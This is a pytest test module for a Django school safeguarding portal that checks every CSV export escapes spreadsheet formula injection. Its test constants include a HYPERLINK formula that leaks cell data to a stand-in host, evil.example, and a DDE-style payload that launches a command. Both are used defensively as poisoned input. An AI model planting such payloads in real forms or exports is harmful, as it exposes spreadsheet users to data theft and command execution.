"""Every CSV the portal hands out opens in a spreadsheet as text: no cell of any export starts with ``= + - @``,
a tab or a carriage return (CSV injection), whoever typed it: a visitor on the public form, the MIS's pupil and
parent names, staff names and job titles, a filtering request.

All exports are written by one helper (core/csvexport.py); the last tests keep it that way, and find every view
that answers with a CSV, so a new export cannot be left out of the check.
"""

from __future__ import annotations

import csv
import inspect
import io
import pathlib
import re
import uuid

import pytest
from django.conf import settings
from django.urls import URLPattern, URLResolver, get_resolver, resolve, reverse

from aup.models import Audience
from safeguarding_portal.accounts.policy import Role
from safeguarding_portal.core.csvexport import FORMULA_STARTS

from . import factories_aup as fa
from . import factories_filtering as ff
from .factories import GuardianFactory, MembershipFactory, PupilFactory, PupilGuardianFactory, UserFactory
from .incident_helpers import make_case
from .project_files import NOT_THE_PROJECT

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the photo")'
PLUS = "+44 20 7946 0000"
MINUS = "-2+3"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=1+1"


@pytest.fixture
def poisoned(school, client):
    """Names and free text that a spreadsheet would run, in every place an export reads them from."""
    pupils = [
        PupilFactory(school=school, legal_forename=HYPERLINK, surname="Morgan", registration_group="5B"),
        PupilFactory(school=school, legal_forename=AT, surname="Jones", registration_group="5B"),
        PupilFactory(school=school, legal_forename=TAB, surname="Ali", registration_group="5B"),
    ]
    guardian = GuardianFactory(school=school, full_name=MINUS, email="+tag@home.example")
    for pupil in pupils:
        PupilGuardianFactory(pupil=pupil, guardian=guardian, relationship="Mother")
    # The public visitors' page: whatever a visitor types goes straight into the visitors register.
    version = fa.published(school, Audience.VISITOR)
    visitor = client.post(
        reverse("aup:visitor", args=[version.agreement.public_key]),
        {
            "full_name": HYPERLINK,
            "organisation": PLUS,
            "agree": "on",
            "submission_token": str(uuid.uuid4()),
        },
    )
    assert visitor.status_code == 200
    staff = UserFactory(email="poison.staff@oak.example", full_name=CR)
    MembershipFactory(user=staff, school=school, role=Role.STAFF, job_title=HYPERLINK)
    requester = UserFactory(email="poison.requester@oak.example", full_name=AT)
    MembershipFactory(user=requester, school=school, role=Role.STAFF)
    ff.make_change(school=school, requester=requester, reason=HYPERLINK)
    fa.campaign(school, notify=False)
    make_case(school=school, reporter=staff, pupils=pupils[:2])  # the DSL dashboard's list names its pupils
    return pupils


def _exports(school) -> dict[str, str]:
    urls = {
        "campaign": reverse("aup:campaign_csv", args=[_campaign_id(school)]),
        "class photo consents": reverse("aup:class", args=["5B"]) + "?format=csv",
        "filtering log": reverse("filtering:log_csv"),
        "training matrix": reverse("curriculum:matrix_csv"),
        "MIS import template": reverse("schools:import_template") + "?kind=pupils",
        "DSL dashboard cases": reverse("incidents:dashboard_csv"),
    }
    for audience in Audience.values:
        urls[f"{audience} register"] = reverse("aup:register", args=[audience]) + "?format=csv"
    return urls


def _campaign_id(school) -> int:
    from aup.models import Campaign

    return Campaign.objects.filter(school=school).latest("pk").pk


def _cells(response) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    text = body.decode("utf-8")
    assert text.startswith("\ufeff"), "Excel needs the byte-order mark to read accented names"
    return [cell for row in csv.reader(io.StringIO(text[1:], newline="")) for cell in row]


# Exports the head does not download: the DSL's case list (the head is not in the triage team).
DOWNLOADED_BY_THE_DSL = {"DSL dashboard cases"}


def test_no_cell_of_any_export_starts_like_a_formula(client, signed_in, head, dsl, school, poisoned):
    neutralised: dict[str, int] = {}
    for name, url in _exports(school).items():
        signed_in(dsl if name in DOWNLOADED_BY_THE_DSL else head)
        response = client.get(url)
        assert response.status_code == 200, name
        assert response["Content-Type"].startswith("text/csv"), name
        assert response["Content-Disposition"].startswith("attachment;"), name
        cells = _cells(response)
        dangerous = [c for c in cells if c.startswith(FORMULA_STARTS)]
        assert not dangerous, f"{name} export: {dangerous}"
        neutralised[name] = sum(1 for c in cells if c[:1] == "'" and c[1:].startswith(FORMULA_STARTS))
    # The poisoned values did reach these exports (escaped), so the check above was not vacuous.
    for name in (
        "campaign",
        "class photo consents",
        "filtering log",
        "training matrix",
        "visitor register",
        "parent register",
        "DSL dashboard cases",
    ):
        assert neutralised[name] > 0, name


def test_the_visitors_hyperlink_is_kept_as_text_not_dropped(client, signed_in, head, school, poisoned):
    signed_in(head)

    cells = _cells(client.get(reverse("aup:register", args=[Audience.VISITOR]) + "?format=csv"))

    assert "'" + HYPERLINK in cells
    assert "'" + PLUS in cells


def test_every_column_is_escaped_not_only_the_name(client, signed_in, head, school, poisoned):
    signed_in(head)

    campaign = _cells(client.get(reverse("aup:campaign_csv", args=[_campaign_id(school)])))
    matrix = _cells(client.get(reverse("curriculum:matrix_csv")))
    log = _cells(client.get(reverse("filtering:log_csv")))

    assert "'" + MINUS in campaign and "'+tag@home.example" in campaign
    assert "'" + CR in matrix and "'" + HYPERLINK in matrix
    assert "'" + AT in log  # the requester's name in the "by" column, not only the summary


CSV_WRITING = re.compile(r"\bcsv_(streaming_)?response\(|\bcsv_text\(|text/csv")


def _views(patterns, prefix: str = ""):
    for entry in patterns:
        if isinstance(entry, URLResolver):
            yield from _views(entry.url_patterns, f"{prefix}{entry.namespace}:" if entry.namespace else prefix)
        elif isinstance(entry, URLPattern) and entry.name:
            yield f"{prefix}{entry.name}", inspect.unwrap(entry.callback)


def test_every_view_that_answers_with_a_csv_is_in_the_check(school, poisoned):
    # Any view whose own code writes a CSV: a new export added without a line in _exports fails here.
    answering = set()
    for name, view in _views(get_resolver().url_patterns):
        try:
            source = inspect.getsource(view)
        except (OSError, TypeError):  # a class-based or built-in view: none of the portal's exports
            continue
        if CSV_WRITING.search(source):
            answering.add(name)
    checked = {resolve(url.split("?")[0]).view_name for url in _exports(school).values()}
    assert answering, "no CSV view found: the search itself is broken"
    assert answering <= checked, f"exports missing from _exports: {sorted(answering - checked)}"


def _project_python_files():
    # Every app of the project (a folder with apps.py), so a new app is covered without editing this list.
    root = pathlib.Path(settings.BASE_DIR)
    for apps_file in root.glob("*/apps.py"):
        yield from apps_file.parent.rglob("*.py")
    yield from (root / "safeguarding_portal").rglob("*.py")


def test_every_csv_is_written_by_the_one_helper():
    root = pathlib.Path(settings.BASE_DIR)
    writers = []
    for path in _project_python_files():
        if path.name == "csvexport.py" or "migrations" in path.parts:
            continue
        if re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")):
            writers.append(str(path.relative_to(root)))
    assert not writers, f"write CSV with safeguarding_portal/core/csvexport.py instead: {writers}"


def _project_sources():
    root = pathlib.Path(settings.BASE_DIR)
    for path in root.rglob("*.py"):
        parts = path.relative_to(root).parts
        if parts[0] in NOT_THE_PROJECT or parts[0].startswith(".") or "migrations" in parts:
            continue
        yield str(path.relative_to(root)), path.read_text(encoding="utf-8")


def test_every_csv_response_is_made_by_the_one_helper():
    # Not only the writer: a response labelled text/csv anywhere else (the MIS import's template once was one).
    labelled = re.compile(r"content_type=[^,)]*text/csv")
    by_hand = [
        name
        for name, text in _project_sources()
        if name != "safeguarding_portal/core/csvexport.py" and labelled.search(text)
    ]
    assert by_hand == [], f"answer with csv_response or csv_streaming_response from core/csvexport.py: {by_hand}"


def test_the_mis_import_template_is_made_by_the_helper(client, signed_in, dsl):
    signed_in(dsl)

    response = client.get(reverse("schools:import_template") + "?kind=staff")

    assert response.content.startswith("\ufeff".encode()) and response["Cache-Control"] == "no-store"
    assert response["Content-Disposition"] == 'attachment; filename="mis-import-staff-template.csv"'
